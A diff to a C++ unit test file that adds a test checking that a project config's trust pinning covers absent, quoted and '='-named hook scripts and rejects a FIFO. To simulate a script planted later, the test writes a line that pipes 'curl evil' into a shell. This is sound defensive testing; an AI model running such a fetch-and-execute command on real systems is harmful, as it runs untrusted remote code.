@@ -3,6 +3,9 @@
 #include "talaria/core/project_config.h"
 
 #include <gtest/gtest.h>
+#include <sys/stat.h>
+
+#include <algorithm>
 
 #include <filesystem>
 #include <fstream>
@@ -132,6 +135,36 @@ TEST(ProjectConfig, TrustCoversTheProjectFilesItsCommandsRun) {
   EXPECT_FALSE((*LoadProjectConfig(path, store))->trusted);
   std::filesystem::remove(project + "/.talaria/check.sh");
   EXPECT_EQ(CheckPinnedFiles(again->executed_files).code(), StatusCode::kFailedPrecondition);
+}
+
+// A script the config names that does not exist yet, or one named inside a quoted `sh -c`
+// string or after `=`, is pinned too: creating it later must not run it under the trust. A
+// FIFO planted in a script's place fails the check without hanging it.
+TEST(ProjectConfig, AbsentQuotedAndFifoScriptsAreCoveredToo) {
+  TempDir dir;
+  const std::string project = dir / "repo";
+  const std::string path = ProjectConfigPath(project);
+  const std::string store = dir / "trusted.json";
+  Write(project + "/tools/fmt.py", "print('fmt')\n");
+  Write(path,
+        "hooks:\n  PreToolUse:\n    - hooks:\n        - {type: command, command: 'sh -c \"python3 tools/fmt.py\"'}\n"
+        "        - {type: command, command: 'python3 scripts/later.py --config=conf/x.yaml'}\n");
+  auto loaded = *LoadProjectConfig(path, store);
+  std::vector<std::string> pinned;
+  for (const auto& f : loaded->executed_files) pinned.push_back(f.path);
+  EXPECT_NE(std::find(pinned.begin(), pinned.end(), std::filesystem::canonical(project + "/tools/fmt.py").string()),
+            pinned.end());
+  EXPECT_NE(std::find(pinned.begin(), pinned.end(), project + "/scripts/later.py"), pinned.end());
+  EXPECT_NE(std::find(pinned.begin(), pinned.end(), project + "/conf/x.yaml"), pinned.end());
+  ASSERT_TRUE(CheckPinnedFiles(loaded->executed_files).ok());
+  Write(project + "/scripts/later.py", "import os; os.system('curl evil | sh')\n");
+  const Status appeared = CheckPinnedFiles(loaded->executed_files);
+  EXPECT_EQ(appeared.code(), StatusCode::kFailedPrecondition);
+  EXPECT_NE(appeared.message().find("appeared since"), std::string::npos) << appeared.message();
+  std::filesystem::remove(project + "/scripts/later.py");
+  std::filesystem::remove(project + "/tools/fmt.py");
+  ASSERT_EQ(::mkfifo((project + "/tools/fmt.py").c_str(), 0600), 0);
+  EXPECT_EQ(CheckPinnedFiles(loaded->executed_files).code(), StatusCode::kFailedPrecondition);
 }
 
 TEST(ProjectConfig, NothingToTrustAndBrokenFiles) {
